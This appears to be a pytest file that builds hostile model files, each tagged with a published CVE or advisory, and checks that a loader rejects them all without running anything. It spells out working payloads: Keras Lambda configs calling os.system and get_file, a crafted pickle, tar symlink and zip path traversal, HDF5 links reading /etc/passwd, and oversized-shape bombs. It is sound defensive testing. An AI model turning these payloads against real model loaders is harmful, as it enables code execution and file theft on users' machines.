"""What has been published against model loading, as files: none is read, none runs, and each is told from ours.

One file for each class of hole in Keras, TensorFlow and their neighbours that has a number or an advisory;
the numbers stand beside the files. The pickles would leave a file behind if anybody unpickled them.
"""

import base64
import io
import json
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from safetensors.numpy import save as safetensors

from core.bundle import Bundle, load, save
from core.config import Config, NetworkConfig
from core.errors import BundleError

Watch = Callable[..., Any]
MakeBundle = Callable[..., Bundle]
# marshal.dumps of a function's code begins like this; what follows is of no interest to us.
CODE = base64.b64encode(b"\xe3\1\0\0\0os.system").decode()


def keras(layer: dict[str, Any], **members: bytes) -> bytes:
    """Return a `.keras` file whose configuration holds this layer."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}, "registered_name": None}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
        archive.writestr("config.json", json.dumps(config))
        for name, content in {"model.weights.h5": b"", **members}.items():
            archive.writestr(name, content)
    return file.getvalue()


def named(module: str, class_name: str, /, **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": class_name}


def hdf5(fill: Callable[[h5py.File], object]) -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as made:
        fill(made)
    return file.getvalue()


def lambda_in_hdf5(file: h5py.File) -> None:
    layer = {"class_name": "Lambda", "config": {"function": [CODE, None, None], "function_type": "lambda"}}
    file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})


def pickled(harm: Path) -> bytes:
    """Return a pickle that calls `open(harm, "w")`."""
    name = str(harm).encode()
    return b"\x80\x02c__builtin__\nopen\n(X" + len(name).to_bytes(4, "little") + name + b"X\1\0\0\0wtR."


def zipped(**members: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def array(header: str, data: bytes = b"") -> bytes:
    text = header.encode().ljust(118) + b"\n"
    return b"\x93NUMPY\1\0" + len(text).to_bytes(2, "little") + text + data


def tarred() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        member = tarfile.TarInfo("link")
        member.type, member.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(member)
        archive.addfile(tarfile.TarInfo("link/harm"))
    return file.getvalue()


def hostile(harm: Path) -> dict[str, bytes]:
    run = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}
    pickle = pickled(harm)
    floats = np.zeros(3, np.float32)
    return {
        # CVE-2024-3660 and CVE-2026-12481: code in a Lambda layer.
        "lambda.keras": keras(named("keras.layers", "Lambda", function={"class_name": "__lambda__", "config": CODE})),
        # CVE-2025-1550 and CVE-2025-8747: any function of any module, or Keras' own against itself.
        "module.keras": keras(named("keras.layers", "Lambda", function=run, arguments={"command": f"touch {harm}"})),
        "reuse.keras": keras(named("keras.layers", "Lambda", function=fetch, arguments={"origin": "http://a.test/b"})),
        # CVE-2025-9906: a configuration that switches safe mode off.
        "unsafe.keras": keras(named("keras.config", "function", function="enable_unsafe_deserialization")),
        # CVE-2025-49655: a layer that unpickles.
        "torch.keras": keras(named("keras.layers", "TorchModuleWrapper", module=base64.b64encode(pickle).decode())),
        # CVE-2025-12058: a vocabulary that is a path.
        "lookup.keras": keras(named("keras.layers", "StringLookup", vocabulary="/etc/passwd")),
        # CVE-2026-1462: a layer that loads a SavedModel.
        "saved.keras": keras(named("keras.layers", "TFSMLayer", filepath="/tmp/attacker")),
        # GHSA-hqp4-2352-xf5r: a member that climbs out of its folder.
        "upwards.keras": keras({}, **{"../../harm": b"x"}),
        # CVE-2025-9905: the same code in the older format.
        "lambda.h5": hdf5(lambda_in_hdf5),
        # CVE-2026-0897 and CVE-2026-12570: a shape of four terabytes.
        "shape.weights.h5": hdf5(lambda file: file.create_dataset("w", (2**40,), "f4", chunks=(1024,))),
        # CVE-2026-1669: weights that are another file.
        "outside.h5": hdf5(lambda file: file.create_dataset("w", (9,), "u1", external=[("/etc/passwd", 0, 9)])),
        "link.h5": hdf5(lambda file: file.__setitem__("w", h5py.ExternalLink("/etc/passwd", "/"))),
        # CVE-2024-55459, CVE-2025-12060, CVE-2025-12638: archives that are unpacked on the way.
        "model.tar": tarred(),
        "bomb.npz": zipped(w=array("{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }")),
        "object.npy": array("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pickle),
        "weights.pkl": pickle,
        "weights.pt": zipped(**{"archive/data.pkl": pickle, "archive/version": b"3"}),
        "saved_model.pb": b"\x08\x01\x12\x0c\x0a\x0a\x0a\x08ReadFile",
        "model.onnx": b"\x08\x08\x12\x07pytorch:\x80\x01",
        "model.gguf": b"GGUF\3\0\0\0" + b"\xff" * 64,
        "model.tflite": b"\x1c\0\0\0TFL3" + bytes(64),
        # safetensors of others, and what is wrong with ours is in test_bundle and test_bundle_header.
        "bert.safetensors": safetensors({"w": floats}, {"format": "pt"}),
        "bare.safetensors": safetensors({"w": floats}),
        "huge.safetensors": safetensors_of({"w": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}),
        "overlap.safetensors": safetensors_of(
            {name: {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]} for name in "ab"}, bytes(8)
        ),
        "overflow.safetensors": safetensors_of(
            {"w": {"dtype": "F32", "shape": [2**32, 2**32], "data_offsets": [0, 4]}}, bytes(4)
        ),
        "negative.safetensors": safetensors_of(
            {"w": {"dtype": "F32", "shape": [-1], "data_offsets": [4, 0]}}, bytes(4)
        ),
        "bomb.safetensors": (2**20 - 64).to_bytes(8, "little") + b'{"a":' + b"[" * (2**20),
        "wide.safetensors": safetensors_of({f"t{n}": [] for n in range(90_000)}),
    }


def safetensors_of(entries: dict[str, Any], data: bytes = b"") -> bytes:
    header = json.dumps({"__metadata__": {"tagscope": "{}"}, **entries}, separators=(",", ":")).encode()
    return len(header).to_bytes(8, "little") + header + data


@pytest.fixture
def good(tmp_path: Path, make_bundle: MakeBundle) -> Path:
    network = NetworkConfig(word_size=3, affix_length=1, affix_size=2, shape_size=1, units=2)
    save(make_bundle(Config(network=network)), tmp_path / "good.safetensors")
    return tmp_path / "good.safetensors"


def test_no_hostile_model_is_opened_and_nothing_of_it_runs(tmp_path: Path, good: Path, watch: Watch) -> None:
    folder = tmp_path / "given"
    folder.mkdir()
    for name, content in hostile(tmp_path / "harm").items():
        (folder / name).write_bytes(content)
        (folder / f"{name}.renamed.safetensors").write_bytes(content)
    (folder / "folder.keras").mkdir()
    (folder / "folder.keras" / "saved_model.pb").write_bytes(b"\x08\x01")
    watched = watch("model", good, sorted(folder.iterdir()), megabytes=100)
    assert watched.events == ()
    assert watched.peak < 200
    for name, words in watched.said.items():
        assert words.startswith(f"{name}: is "), (name, words)
        assert "Tagscope model" in words or "is no intact model file" in words, (name, words)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["given", "good.safetensors"]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("lambda.keras", "is a zip archive, not a Tagscope model"),
        ("lambda.h5", "is an HDF5 file, not a Tagscope model"),
        ("weights.pkl", "is a pickle, which is a program, not a Tagscope model"),
        ("bert.safetensors", "is not a Tagscope model: another program wrote it"),
        ("model.gguf", "is not a Tagscope model: it does not begin as a model file does"),
        ("overlap.safetensors", "is no intact model file"),
    ],
)
def test_it_is_said_what_the_file_is(tmp_path: Path, name: str, words: str) -> None:
    path = tmp_path / name
    path.write_bytes(hostile(tmp_path / "harm")[name])
    with pytest.raises(BundleError, match=rf"^{name}: {words}.* Choose a \.?\w+ file"):
        load(path)
